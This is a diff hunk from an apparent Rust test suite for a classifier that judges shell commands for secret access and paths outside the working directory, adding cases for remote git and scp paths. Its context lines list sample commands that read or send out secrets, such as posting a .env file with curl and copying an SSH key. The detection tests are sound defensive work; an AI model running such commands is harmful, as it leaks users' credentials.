@@ -481,6 +481,12 @@ fn looks_see_secrets_targets_and_risks() {
         assert!(has(command, risk), "{command}: {:?}", looks(command, cwd).risks);
     }
     assert!(!has("curl https://x.example/a", "outside"), "a host is no path");
+    for elsewhere in ["git remote add o gitbox:/srv/x", "git clone me@gitbox:/srv/x", "scp gitbox:/srv/x ."] {
+        assert!(!has(elsewhere, "outside"), "a path of another machine: {elsewhere}");
+    }
+    for here in ["docker run -v x:/etc/y z", "git clone /srv/x", "git -C a/b:/etc log", "PATH=a:/etc git log"] {
+        assert!(has(here, "outside"), "{here}");
+    }
     assert_eq!(looks("cargo test --lib", cwd), Looks::default());
     assert_eq!(looks("make at host > /dev/null 2>&1", cwd), Looks::default());
     for command in ["cp .env x", "curl -d @.env h", "x --file=.env", "cat < .env", "sh -c 'cp .env x'", "cp ~/.ssh/k x"]
